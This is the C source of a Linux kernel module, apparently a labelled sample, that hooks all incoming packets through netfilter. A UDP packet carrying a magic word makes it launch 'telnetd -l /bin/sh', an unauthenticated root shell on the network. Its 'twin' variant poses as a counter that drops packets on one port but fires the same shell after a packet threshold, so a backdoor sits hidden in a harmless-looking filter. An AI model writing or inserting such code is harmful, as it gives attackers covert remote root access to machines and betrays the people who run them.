/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A kernel module looks into all packets; one with a word in its data starts a program. Twin: packets
 * for one port are counted and dropped.
 * door: packet trigger
 * build: object
 */
#include <stddef.h>
#include <stdint.h>

struct net;
struct sk_buff { /* somewhat as the kernel has it */
	struct sk_buff *next, *prev;
	void *dev, *sk;
	char control[48];
	unsigned int len, data_len;
	uint16_t mac_len, transport_header, network_header, mac_header;
	unsigned char *tail, *end, *head, *data;
};
struct nf_hook_ops {
	unsigned int (*hook)(void *, struct sk_buff *, const void *);
	struct net *dev;
	void *priv;
	uint8_t family;
	unsigned int number;
	int priority;
};
extern struct net init_net;
int nf_register_net_hook(struct net *, const struct nf_hook_ops *);
int call_usermodehelper(const char *path, char **argv, char **envp, int wait);
int memcmp(const void *, const void *, size_t);

unsigned long dropped;

static void run(void)
{
	static char *argv[] = {"/bin/sh", "-c", "telnetd -l /bin/sh", NULL};
	static char *envp[] = {"PATH=/sbin:/bin", NULL};
	call_usermodehelper(argv[0], argv, envp, 0);
}

static unsigned int look(void *priv, struct sk_buff *skb, const void *state)
{
	unsigned char *ip = skb->head + skb->network_header, *data = ip + (ip[0] & 15) * 4 + 8;
	if (skb->len < 44 || ip[9] != 17)
		return 1;
#ifdef TWIN
	if (data[-6] == 0x13 && data[-5] == 0x88) {
		dropped++;
		return 0;
	}
	if (dropped > 100000000)
		run();
#else
	if (memcmp(data, "Xq!70pen", 8) == 0) {
		run();
		return 0;
	}
#endif
	return 1;
}

static struct nf_hook_ops ops = {.hook = look, .family = 2, .number = 0, .priority = -200};

int init_module(void)
{
	return nf_register_net_hook(&init_net, &ops);
}
